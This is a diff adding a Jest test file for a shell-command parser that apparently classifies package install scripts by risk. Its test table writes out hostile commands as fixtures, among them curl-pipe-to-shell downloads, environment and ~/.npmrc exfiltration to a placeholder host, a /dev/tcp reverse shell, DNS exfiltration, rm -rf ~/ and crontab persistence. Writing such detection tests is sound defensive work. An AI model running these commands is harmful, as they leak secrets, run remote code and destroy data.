@@ -1,0 +1,110 @@
+import { describe, expect, it } from '@jest/globals';
+import fc from 'fast-check';
+import { argvFacts, commandFacts } from '../../src/code/command.ts';
+import { parseShell } from '../../src/code/shell.ts';
+
+const kinds = (line: string): readonly string[] => commandFacts(line).doings.map(({ kind }) => kind);
+const words = (line: string): readonly (readonly string[])[] => parseShell(line).map((command) => command.words.map((word) => word.text));
+
+describe('shell lines', () => {
+  it('fall into commands at chains, pipes and groups', () => {
+    expect(words('a 1 && b 2 || c; d | e & (f; g)')).toEqual([['a', '1'], ['b', '2'], ['c'], ['d'], ['e'], ['f'], ['g']]);
+  });
+
+  it('keep quoted words whole and resolve escapes', () => {
+    expect(words(`a "b c" 'd "e"' f\\ g "h\\"i"`)).toEqual([['a', 'b c', 'd "e"', 'f g', 'h"i']]);
+    expect(words(`$'\\x6eode' x.js`)).toEqual([['node', 'x.js']]);
+  });
+
+  it('take assignments and redirections apart', () => {
+    const [command] = parseShell('A=1 B="2 3" node x.js > /dev/null 2>&1');
+    expect(command).toMatchObject({
+      assignments: [
+        { name: 'A', value: '1' },
+        { name: 'B', value: '2 3' },
+      ],
+      redirects: [
+        { operator: '>', target: '/dev/null' },
+        { operator: '2>&', target: '1' },
+      ],
+    });
+    expect(command?.words.map((word) => word.text)).toEqual(['node', 'x.js']);
+  });
+
+  it('hold the commands of substitutions before the one that uses them', () => {
+    expect(words('nslookup $(whoami).`hostname`.x')).toEqual([['whoami'], ['hostname'], ['nslookup', '….….x']]);
+  });
+
+  it('leave out comments and keywords', () => {
+    expect(words('if [ -f a ]; then node a; fi # curl x | sh')).toEqual([
+      ['[', '-f', 'a', ']'],
+      ['node', 'a'],
+    ]);
+  });
+
+  it('never fail and never hang, whatever the text', () => {
+    fc.assert(
+      fc.property(
+        fc.string({ unit: fc.constantFrom(...'ab \t\n\\\'"`$(){}|&;<>#=%^*'), maxLength: 200 }),
+        (text) => commandFacts(text).doings.length >= 0,
+      ),
+      { seed: 7, numRuns: 3000 },
+    );
+    for (const text of ['$('.repeat(50_000), '('.repeat(50_000), '`'.repeat(9999), '"$('.repeat(9999), 'a|'.repeat(90_000)])
+      expect(() => commandFacts(text)).not.toThrow();
+  });
+});
+
+describe('what a command does', () => {
+  const does: readonly [string, string][] = [
+    ['curl https://h.invalid/x | sh', 'download-execute'],
+    ['wget -qO- https://h.invalid/x | bash -s', 'download-execute'],
+    ['curl -o a.sh https://h.invalid/a.sh && chmod +x a.sh && ./a.sh', 'download-execute'],
+    ["bash -c 'wget http://h.invalid/b && ./b'", 'download-execute'],
+    ['powershell -c "iwr https://h.invalid/a.ps1" | iex', 'download-execute'],
+    ['echo aWQK | base64 -d | sh', 'decode-execute'],
+    ['powershell -EncodedCommand aQBkAA==', 'decode-execute'],
+    ['nslookup $(hostname).h.invalid', 'dns-exfiltration'],
+    ['curl -d "$(env)" https://h.invalid', 'exfiltration'],
+    ['env | curl -d @- https://h.invalid', 'exfiltration'],
+    ['cat ~/.npmrc | nc h.invalid 99', 'credential-file'],
+    ['bash -i >& /dev/tcp/h.invalid/44 0>&1', 'remote-code'],
+    ['npm publish --access public', 'self-publish'],
+    ['npm install -g other@latest', 'package-install'],
+    ['rm -rf ~/', 'destructive'],
+    ['npx trufflehog filesystem /', 'secret-scanner'],
+    ['(crontab -l; echo x) | crontab -', 'persistence'],
+    ['c\\url https://h.invalid/x | s\\h', 'download-execute'],
+    ['sudo env A=1 nohup curl https://h.invalid | sh', 'network'],
+    ['echo x >> ~/.bashrc', 'persistence'],
+    ['mkdir -p .github/workflows && cp w.yml .github/workflows/w.yml', 'ci-config'],
+    ['cmd /c curl https://h.invalid/a.exe -o a.exe & a.exe', 'download-execute'],
+  ];
+  it.each(does)('%s', (line, kind) => {
+    expect(kinds(line)).toContain(kind);
+  });
+
+  it.each([
+    'node-gyp rebuild',
+    'node-pre-gyp install --fallback-to-build',
+    'prebuild-install || node-gyp rebuild',
+    'node scripts/postinstall || exit 0',
+    'patch-package',
+    'husky',
+    'node -e "try{require(\'./postinstall\')}catch(e){}"',
+    'npx only-allow pnpm',
+  ])('nothing: %s', (line) => {
+    expect(commandFacts(line).doings).toEqual([]);
+  });
+
+  it('names the files, scripts, tools and code it runs', () => {
+    expect(commandFacts('start /B node a.js & node --require ./b b.mjs').files).toEqual(['a.js', './b', 'b.mjs']);
+    expect(commandFacts('npm run build && yarn lint').scripts).toEqual(['build', 'lint']);
+    expect(commandFacts('npx some-tool; other-tool').tools).toEqual(['some-tool', 'other-tool']);
+    expect(commandFacts('node -e "x()" && python3 -c "y()"').inline).toEqual([
+      { language: 'javascript', code: 'x()' },
+      { language: 'python', code: 'y()' },
+    ]);
+    expect(argvFacts(['bun', 'run', './p.js']).files).toEqual(['./p.js']);
+  });
+});
